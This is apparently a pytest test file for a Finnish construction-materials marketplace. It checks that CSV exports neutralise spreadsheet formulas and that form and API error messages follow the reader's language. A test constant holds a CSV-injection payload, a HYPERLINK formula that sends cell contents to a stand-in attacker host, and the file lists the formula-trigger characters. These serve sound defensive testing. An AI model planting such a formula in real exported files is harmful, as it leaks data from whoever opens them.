"""Issue 15, items 7 and 9: CSV exports cannot run formulas (OWASP "CSV Injection"), and
messages speak the reader's language: forms in the page's, the JSON API in Accept-Language's
(English when the header names none of fi, sv, en)."""

from __future__ import annotations

import ast
import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import flask_wtf
import pytest
import sqlalchemy as sa
import wtforms
from flask import Flask
from werkzeug.test import TestResponse
from wtforms import StringField

from marketplace.extensions import db
from marketplace.models import Language, Listing, Organisation, Site, User
from marketplace.reservations import materials, transitions
from marketplace.reservations.materials import MaterialRequest
from marketplace.web.csv_files import BOM, write_csv
from marketplace.web.form_messages import MESSAGES
from marketplace.web.forms import Form
from tests.partners.fixtures import Api, PartnerHandle, rental_item
from tests.reservations.conftest import next_monday, tomorrow_at
from tests.support import Client, text

FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"x")'
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


def rows(response: TestResponse) -> list[dict[str, str]]:
    body = response.get_data().decode("utf-8")
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body.removeprefix(BOM), newline="")))


def retitle(listing: Listing, title: str) -> None:
    # Straight into the database: whatever the forms accept today, the writer must not trust
    # what is stored (a title from before the forms refused control characters, an import).
    db.session.execute(sa.update(Listing).where(Listing.id == listing.id).values(title=title))
    db.session.commit()


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


# Item 7: CSV cells


@pytest.mark.parametrize("start", DANGEROUS)
def test_the_writer_neutralises_text_and_keeps_numbers(start: str) -> None:
    body = write_csv(
        ["title", "amount", "lon", "count"],
        [{"title": start + FORMULA, "amount": "-12.50", "lon": -3.5, "count": -2}],
        numeric={"amount", "lon", "count"},
    )
    (row,) = csv.DictReader(io.StringIO(body.removeprefix(BOM), newline=""))
    assert row == {"title": "'" + start + FORMULA, "amount": "-12.50", "lon": "-3.5", "count": "-2"}


def test_numbers_in_text_columns_are_text_and_text_in_number_columns_is_neutralised() -> None:
    body = write_csv(["title", "amount"], [{"title": "-5", "amount": "=1+1"}], numeric={"amount"})
    (row,) = csv.DictReader(io.StringIO(body.removeprefix(BOM), newline=""))
    assert row == {"title": "'-5", "amount": "'=1+1"}


@pytest.fixture
def org_listing(
    make_user: Callable[..., User],
    make_organisation: Callable[..., Organisation],
    make_site: Callable[..., Site],
    make_listing: Callable[..., Listing],
) -> Listing:
    owner = make_user(email="contractor@example.fi")
    organisation = make_organisation(owner, name="Rakennus Kaava Oy")
    site = make_site(owner, organisation)
    # A negative coordinate: a number column must keep its minus sign, unquoted.
    db.session.execute(sa.update(Site).where(Site.id == site.id).values(longitude=-3.7038))
    db.session.commit()
    return make_listing(owner=owner, site=site)


@pytest.mark.parametrize("start", DANGEROUS)
def test_open_data_csv_neutralises_titles_and_json_keeps_them(
    client: Client, org_listing: Listing, start: str
) -> None:
    title = start + FORMULA
    retitle(org_listing, title)
    published = json.loads(client.get("/open-data/listings.json").get_data())["items"]
    (item,) = [i for i in published if i["id"] == org_listing.id]
    assert item["title"] == title  # the JSON feed is exact
    (row,) = [r for r in rows(client.get("/open-data/listings.csv")) if r["id"] == str(item["id"])]
    assert row["title"] == "'" + title
    assert row["longitude"] == str(item["longitude"]) and row["longitude"].startswith("-")
    assert row["latitude"] == str(item["latitude"])
    for column in ("id", "quantity_total", "quantity_available", "latitude", "longitude"):
        assert is_number(row[column]), column
    for cell in row.values():
        assert not cell.startswith(tuple(DANGEROUS)) or is_number(cell)


@pytest.mark.parametrize("start", DANGEROUS)
def test_handover_csv_neutralises_titles_and_json_keeps_them(
    client: Client,
    make_user: Callable[..., User],
    org_listing: Listing,
    start: str,
) -> None:
    lister = org_listing.owner
    requester = make_user(email="requester@example.fi")
    reservation = materials.reserve_material(
        requester, org_listing, MaterialRequest(Decimal(40), tomorrow_at())
    )
    transitions.accept(reservation, lister)
    transitions.complete(reservation, lister, reservation.pickup_code)
    title = start + FORMULA
    retitle(org_listing, title)
    client.sign_in("contractor@example.fi")
    base = f"/impact/organisations/{org_listing.organisation_id}/handovers"
    exported = json.loads(client.get(f"{base}.json").get_data())["handovers"]
    assert [h["listing_title"] for h in exported] == [title]
    (row,) = rows(client.get(f"{base}.csv"))
    assert row["listing_title"] == "'" + title
    assert (row["quantity"], row["reservation_id"]) == ("40", str(reservation.id))
    assert is_number(row["mass_kg"]) and is_number(row["listing_id"])


# Item 9: forms in the page's language


@pytest.fixture
def bricks(make_user: Callable[..., User], make_listing: Callable[..., Listing]) -> Listing:
    return make_listing(owner=make_user(email="lister@example.fi"))


@pytest.fixture
def scaffolding(make_user: Callable[..., User], make_rental: Callable[..., Listing]) -> Listing:
    return make_rental(make_user(email="rental@example.fi"))


def reader(client: Client, make_user: Callable[..., User], locale: Language) -> Client:
    make_user(email="reader@example.fi", locale=locale)
    client.sign_in("reader@example.fi")
    return client


ENGLISH = (
    "Not a valid",
    "This field is required",
    "Give the time",
    "Give the date",
    "Fill in this field",
    "Invalid",
)


def no_english(page: str) -> None:
    for phrase in ENGLISH:
        assert phrase not in page, phrase


def test_finnish_reservation_form_says_bad_times_and_days_in_finnish(
    client: Client, make_user: Callable[..., User], bricks: Listing
) -> None:
    reader(client, make_user, Language.FI)
    response = client.submit(
        f"/reservations/new/{bricks.id}",
        {"quantity": "5", "pickup_date": "31.12.", "pickup_time": "kello neljä"},
    )
    page = text(response)
    assert response.status_code == 422
    assert "Anna kellonaika muodossa TT:MM, esimerkiksi 14:30." in page
    assert "Anna päivämäärä muodossa VVVV-KK-PP, esimerkiksi 2026-01-31." in page
    no_english(page)


def test_finnish_booking_form_says_missing_and_bad_values_in_finnish(
    client: Client, make_user: Callable[..., User], scaffolding: Listing
) -> None:
    reader(client, make_user, Language.FI)
    response = client.submit(
        f"/reservations/new/{scaffolding.id}", {"start": "huomenna", "end": "", "units": "x"}
    )
    page = text(response)
    assert response.status_code == 422
    assert "Anna päivämäärä muodossa VVVV-KK-PP" in page and "Täytä tämä kenttä." in page
    no_english(page)


def test_swedish_forms_speak_swedish(
    client: Client, make_user: Callable[..., User], bricks: Listing, scaffolding: Listing
) -> None:
    reader(client, make_user, Language.SV)
    material = client.submit(
        f"/reservations/new/{bricks.id}",
        {"quantity": "5", "pickup_date": "2026-13-40", "pickup_time": "25:99"},
    )
    assert material.status_code == 422
    assert "Ange klockslaget i formen TT:MM, till exempel 14:30." in text(material)
    monday = next_monday().isoformat()
    booking = client.submit(
        f"/reservations/new/{scaffolding.id}", {"start": monday, "end": "", "units": "1"}
    )
    assert booking.status_code == 422 and "Fyll i det här fältet." in text(booking)
    no_english(text(material) + text(booking))


def test_every_builtin_wtforms_message_has_the_products_wording() -> None:
    """Whatever WTForms and Flask-WTF can say through gettext is mapped, so an upgrade that
    adds a message fails here rather than on a Finnish page."""
    said: set[str] = set()
    for package in (wtforms, flask_wtf):
        for source in Path(package.__file__ or "").parent.rglob("*.py"):
            for node in ast.walk(ast.parse(source.read_text())):
                if (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("gettext", "ngettext")
                ):
                    literals = [a.value for a in node.args if isinstance(a, ast.Constant)]
                    said.update(v for v in literals if isinstance(v, str))
    assert "Not a valid time value." in said  # the scan sees what it should
    assert said - set(MESSAGES) == set()


class OneField(Form):
    name = StringField()


def test_csrf_failures_of_a_form_speak_the_page_language(app: Flask) -> None:
    headers = {"Accept-Language": "fi"}
    with app.test_request_context(
        "/", method="POST", data={"csrf_token": "forged", "name": "x"}, headers=headers
    ):
        form = OneField()
        assert not form.validate()
        assert form.errors["csrf_token"] == [
            "Lomake oli vanhentunut tai se lähetettiin muualta. Yritä uudelleen."
        ]


@pytest.fixture
def finnish_owner(client: Client, partner: PartnerHandle) -> Client:
    partner.owner.locale = Language.FI
    db.session.commit()
    client.sign_in("partner@example.fi")
    return client


def test_partner_webhook_and_feed_forms_refuse_bad_urls_in_finnish(
    finnish_owner: Client, partner: PartnerHandle
) -> None:
    base = f"/organisations/{partner.organisation.id}/partner"
    hook = finnish_owner.submit(
        f"{base}/webhooks",
        {"url": "ftp://erp.example.fi/hook", "events": ["reservation.requested"]},
    )
    assert hook.status_code == 422
    assert "Vain http- ja https-osoitteita voi käyttää." in text(hook)
    private = finnish_owner.submit(
        f"{base}/webhooks", {"url": "https://10.0.0.1/hook", "events": ["reservation.requested"]}
    )
    assert "yksityiseen, paikalliseen tai varattuun osoitteeseen" in text(private)
    feed = finnish_owner.submit(
        f"{base}/feed",
        {"url": "https://user:pw@erp.example.fi/feed", "format": "csv", "interval_minutes": "30"},
    )
    assert feed.status_code == 422
    assert "URL-osoitteita, joissa on käyttäjätunnus tai salasana, ei tueta." in text(feed)
    often = finnish_owner.submit(
        f"{base}/feed",
        {"url": "https://erp.example.fi/feed", "format": "csv", "interval_minutes": "1"},
    )
    assert often.status_code == 422 and "Anna luku väliltä" in text(often)
    pages = text(hook) + text(private) + text(feed) + text(often)
    for english in ("not supported", "private, loopback", "Only http", "Number must be"):
        assert english not in pages


# Item 9: the API answers in Accept-Language, else English


@pytest.fixture
def app_config(app_config: dict[str, Any]) -> dict[str, Any]:
    app_config["API_MAX_BODY_BYTES"] = 2048
    app_config["WEBHOOKS_DELIVERY"] = "job"
    return app_config


def problem(response: TestResponse, status: int, language: str) -> dict[str, Any]:
    assert response.status_code == status
    assert response.mimetype == "application/problem+json"
    assert response.headers["Content-Language"] == language
    body = dict(response.get_json())
    assert body["status"] == status and body["title"] and body["detail"]
    return body


FINNISH = {"Accept-Language": "fi"}


def test_401_follows_accept_language(api: Api) -> None:
    english = problem(api.get("/inventory"), 401, "en")
    assert english["title"] == "Unauthorized"
    assert english["detail"] == "Send an API key as 'Authorization: Bearer <key>'."
    finnish = problem(api.get("/inventory", headers=FINNISH), 401, "fi")
    assert finnish["title"] == "Tunnistautuminen puuttuu"
    assert finnish["detail"] == "Lähetä API-avain muodossa 'Authorization: Bearer <key>'."
    unknown = problem(api.get("/inventory", headers={"Accept-Language": "de"}), 401, "en")
    assert unknown == english


def test_404_follows_accept_language(api: Api, partner: PartnerHandle) -> None:
    for path, key in (("/listings/424242", None), ("/nothing-here", None), ("/webhooks/7", "")):
        sent = partner.key if key is not None else None
        english = problem(api.get(path, sent), 404, "en")
        finnish = problem(api.get(path, sent, headers=FINNISH), 404, "fi")
        assert (english["title"], finnish["title"]) == ("Not Found", "Ei löydy")
        assert finnish["detail"] != english["detail"]
    swedish = problem(api.get("/listings/424242", headers={"Accept-Language": "sv"}), 404, "sv")
    assert swedish["detail"] == "Annonsen finns inte."


def test_405_follows_accept_language(api: Api) -> None:
    english = problem(api.post("/listings", body={}), 405, "en")
    finnish = problem(api.post("/listings", body={}, headers=FINNISH), 405, "fi")
    assert english["title"] == "Method Not Allowed"
    assert (
        finnish["title"] == "Menetelmä ei ole sallittu" and finnish["detail"] != english["detail"]
    )


def test_413_speaks_of_the_body_size_not_photos(api: Api, partner: PartnerHandle) -> None:
    big = rental_item("A", description="x" * 4000)
    english = problem(api.put("/inventory/A", partner.key, big), 413, "en")
    assert english["title"] == "Content Too Large"
    assert english["detail"] == "The request body is larger than the limit of 2048 bytes."
    finnish = problem(api.put("/inventory/A", partner.key, big, headers=FINNISH), 413, "fi")
    assert finnish["detail"] == "Pyynnön runko ylittää 2048 tavun rajan."
    for body in (english, finnish):
        assert "hoto" not in body["detail"] and "kuv" not in body["detail"].lower()


def test_the_413_page_speaks_of_photos_only_for_uploads(app: Flask, client: Client) -> None:
    app.config["MAX_CONTENT_LENGTH"] = 1024
    english = {"Accept": "text/html", "Accept-Language": "en"}
    form = client.post("/login", data={"email": "x" * 4096}, headers=english)
    assert form.status_code == 413 and "too large" in text(form)
    assert "Photos" not in text(form)
    upload = client.post(
        "/login", data={"photo": (io.BytesIO(b"x" * 4096), "a.jpg")}, headers=english
    )
    assert upload.status_code == 413 and "Photos can be at most" in text(upload)


def test_422_follows_accept_language(api: Api, partner: PartnerHandle) -> None:
    english = problem(api.get("/inventory?colour=red", partner.key), 422, "en")
    assert english["title"] == "Unprocessable Content"
    assert english["detail"].startswith("Unknown parameter")
    finnish = problem(api.get("/inventory?colour=red", partner.key, headers=FINNISH), 422, "fi")
    assert finnish["title"] == "Sisältöä ei voi käsitellä"
    assert finnish["detail"].startswith("Tuntematon parametri")
    bad = rental_item("A", quantity="many", location={**rental_item()["location"], "lat": 500})
    item = problem(api.put("/inventory/A", partner.key, bad, headers=FINNISH), 422, "fi")
    messages = {error["field"]: error["message"] for error in item["errors"]}
    assert messages["quantity"] == 'Anna desimaaliluku merkkijonona, esimerkiksi "12.50".'
    assert messages["location.lat"].startswith("Anna luku väliltä")


def test_429_follows_accept_language(app: Flask, api: Api, partner: PartnerHandle) -> None:
    app.config["API_RATELIMIT_PER_KEY"] = "1/minute"
    assert api.get("/inventory", partner.key).status_code == 200
    english = problem(api.get("/inventory", partner.key), 429, "en")
    limited = api.get("/inventory", partner.key, headers=FINNISH)
    finnish = problem(limited, 429, "fi")
    assert (english["title"], finnish["title"]) == ("Too Many Requests", "Liian monta pyyntöä")
    assert finnish["detail"] != english["detail"] and int(limited.headers["Retry-After"]) > 0


def test_successful_answers_say_their_language_too(api: Api) -> None:
    assert api.get("/categories").headers["Content-Language"] == "en"
    assert api.get("/categories", headers=FINNISH).headers["Content-Language"] == "fi"
